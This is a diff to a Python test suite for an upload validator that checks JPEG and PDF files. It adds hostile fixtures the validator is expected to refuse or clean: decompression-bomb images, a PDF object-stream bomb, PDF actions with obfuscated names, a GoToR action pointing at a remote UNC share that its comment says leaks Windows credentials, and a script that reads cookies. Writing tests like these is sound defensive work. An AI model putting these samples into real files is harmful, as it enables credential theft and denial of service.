@@ -21,6 +21,7 @@ from adapters.intake.upload_checks import (
     parse_size,
     read_capped,
 )
+from tests.support.hostile_files import object_stream_bomb
 
 MB = 1024 * 1024
 
@@ -51,9 +52,10 @@ def make_zip() -> bytes:
     return out.getvalue()
 
 
-def with_dimensions(jpeg: bytes, width: int, height: int) -> bytes:
-    """Rewrite the SOF0 header's size: a tiny file that claims a huge image."""
-    sof = jpeg.index(b"\xff\xc0")
+def with_dimensions(jpeg: bytes, width: int, height: int, *, sof_marker: bytes = b"\xc0") -> bytes:
+    """Rewrite the SOF header's size: a tiny file that claims a huge image (SOF0 baseline,
+    SOF2 progressive)."""
+    sof = jpeg.index(b"\xff" + sof_marker)
     patched = bytearray(jpeg)
     patched[sof + 5 : sof + 7] = height.to_bytes(2, "big")
     patched[sof + 7 : sof + 9] = width.to_bytes(2, "big")
@@ -148,6 +150,7 @@ def pdf_with_xfa() -> bytes:
 
 GOOD_JPEG = make_jpeg()
 GOOD_PDF = pdf_pages(1)
+URI_ACTION = b"<< /S /URI /URI (https://x.invalid/bayar) >>"
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 
 # --- the corpus: (name, bytes, expected code) ----------------------------------------------
@@ -180,12 +183,15 @@ BAD_UPLOADS: list[tuple[str, Callable[[], bytes], RejectCode] | ParameterSet] = 
         RejectCode.JPEG_INVALID,
     ),
     ("truncated.jpg", lambda: GOOD_JPEG[: len(GOOD_JPEG) // 2], RejectCode.JPEG_TRUNCATED),
-    ("jpeg_html_polyglot.jpg", lambda: GOOD_JPEG + HTML, RejectCode.JPEG_HIDDEN_DATA),
-    ("jpeg_zip_polyglot.jpg", lambda: GOOD_JPEG + make_zip(), RejectCode.JPEG_HIDDEN_DATA),
     (
-        "jpeg_comment_script.jpg",
-        lambda: make_jpeg(comment=b"<script>alert(1)</script>"),
-        RejectCode.JPEG_HIDDEN_DATA,
+        "wide_39000x1000.jpg",  # issue 15 #1's shape (its pixels under the 40 MP limit)
+        lambda: with_dimensions(GOOD_JPEG, 39000, 1000),
+        RejectCode.IMAGE_BAD_SHAPE,
+    ),
+    (
+        "progressive_6000x6000.jpg",  # square, 36 MP, but a 216 MB coefficient buffer
+        lambda: with_dimensions(make_jpeg(progressive=True), 6000, 6000, sof_marker=b"\xc2"),
+        RejectCode.PROGRESSIVE_TOO_LARGE,
     ),
     (
         "bomb_60000x60000.jpg",
@@ -241,6 +247,32 @@ BAD_UPLOADS: list[tuple[str, Callable[[], bytes], RejectCode] | ParameterSet] = 
         RejectCode.PDF_ACTIVE_CONTENT,
     ),
     ("pdf_html_polyglot.pdf", lambda: GOOD_PDF + HTML, RejectCode.PDF_HIDDEN_DATA),
+    ("object_stream_bomb.pdf", object_stream_bomb, RejectCode.PDF_TOO_COMPLEX),
+    (
+        "uri_link.pdf",
+        lambda: pdf_with(
+            page_extra=b"/Annots [4 0 R]",
+            more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>", URI_ACTION],
+        ),
+        RejectCode.PDF_LINK,
+    ),
+    (
+        "gotor_unc_share.pdf",  # opening it sends the operator's Windows credentials
+        lambda: pdf_with(
+            b"/OpenAction << /S /GoT#6FR /F (\\\\198.51.100.7\\x\\a.pdf) /D [0 /Fit] >>"
+        ),
+        RejectCode.PDF_LINK,
+    ),
+    (
+        "openaction_uri_hex_name.pdf",
+        lambda: pdf_with(b"/OpenAction << /S /U#52I /U#52I (https://x.invalid/) >>"),
+        RejectCode.PDF_LINK,
+    ),
+    (
+        "page_open_action.pdf",
+        lambda: pdf_with(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
+        RejectCode.PDF_LINK,
+    ),
 ]
 
 
@@ -398,13 +430,36 @@ def test_good_pdf_is_accepted_unchanged() -> None:
     assert checked.data == GOOD_PDF
 
 
-def test_hand_written_pdf_with_a_plain_link_is_accepted() -> None:
-    link = (
-        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
-        b" /A << /S /URI /URI (https://x.invalid) >> >>"
-    )
-    data = pdf_with(page_extra=b"/Annots [4 0 R]", more=[link])
+def test_hand_written_pdf_with_an_internal_link_and_open_view_is_accepted() -> None:
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
+    data = pdf_with(b"/OpenAction [3 0 R /XYZ null null 0]", b"/Annots [4 0 R]", more=[link])
     assert check_ktp_upload(data).data == data
+
+
+@pytest.mark.parametrize(
+    "appended",
+    [HTML, make_zip(), b"%PDF-1.7 polyglot"],
+    ids=["html", "zip", "pdf"],
+)
+def test_jpeg_polyglot_is_accepted_and_stored_without_the_appended_file(appended: bytes) -> None:
+    checked = check_ktp_upload(GOOD_JPEG + appended)
+    assert appended not in checked.data and b"PK\x03\x04" not in checked.data
+    assert checked.data.endswith(b"\xff\xd9") and checked.data.count(b"\xff\xd9") == 1
+
+
+def test_jpeg_comment_with_markup_is_accepted_and_the_comment_dropped() -> None:
+    """Issue 15 #13: re-encoding removes comments, so a comment is no reason to refuse."""
+    upload = make_jpeg(comment=b"<script>alert(1)</script>")
+    checked = check_ktp_upload(upload)
+    assert b"<script>" in upload and b"<script>" not in checked.data
+    assert b"\xff\xfe" not in checked.data.split(b"\xff\xda")[0]  # no COM segment
+
+
+def test_jpeg_at_the_pixel_limit_decodes_at_reduced_scale() -> None:
+    """A baseline 40 MP photo is accepted; libjpeg decodes it at 1/2 scale (draft)."""
+    checked = check_ktp_upload(with_dimensions(GOOD_JPEG, 7000, 5600), jpeg=JpegPolicy())
+    with Image.open(io.BytesIO(checked.data)) as image:
+        assert max(image.size) <= JpegPolicy().max_side
 
 
 # --- streaming size cap ----------------------------------------------------------------------
